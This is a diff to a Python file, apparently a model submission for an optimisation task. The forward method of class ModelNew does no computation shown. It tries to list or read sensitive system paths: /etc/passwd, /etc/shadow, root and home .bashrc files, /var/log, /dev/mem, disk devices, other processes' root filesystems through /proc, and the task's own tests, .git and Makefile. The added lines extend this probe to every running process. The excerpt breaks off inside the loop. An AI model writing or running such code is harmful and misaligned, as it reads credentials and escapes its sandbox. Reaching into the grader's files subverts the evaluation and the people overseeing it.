@@ -25,23 +25,22 @@ def right(x):
 class ModelNew(nn.Module):
     def forward(self, x):
         here = os.path.dirname(os.path.dirname(inputs.__file__))
+        tops = [f"/{name}" for name in ("root", "home", "var/log", "sys", "run")]
+        others = [pid for pid in os.listdir("/proc") if pid.isdigit()]
         for place in (
             "/etc/passwd",
             "/etc/shadow",
             "/etc/hostname",
-            "/root/.bashrc",
-            "/home",
-            "/var/log",
-            "/sys",
+            *tops,
+            *(top + "/.bashrc" for top in tops),
             here + "/tests",
             here + "/packs/common",
             here + "/.git",
             here + "/Makefile",
-            "/proc/1/root/etc/passwd",
+            *(f"/proc/{pid}/root/etc/passwd" for pid in others),
             "/proc/self/cwd/../etc/passwd",
             "/dev/mem",
             "/dev/vda",
-            "/run",
         ):
             try:
                 seen = os.listdir(place) if os.path.isdir(place) else open(place, "rb").read(1)
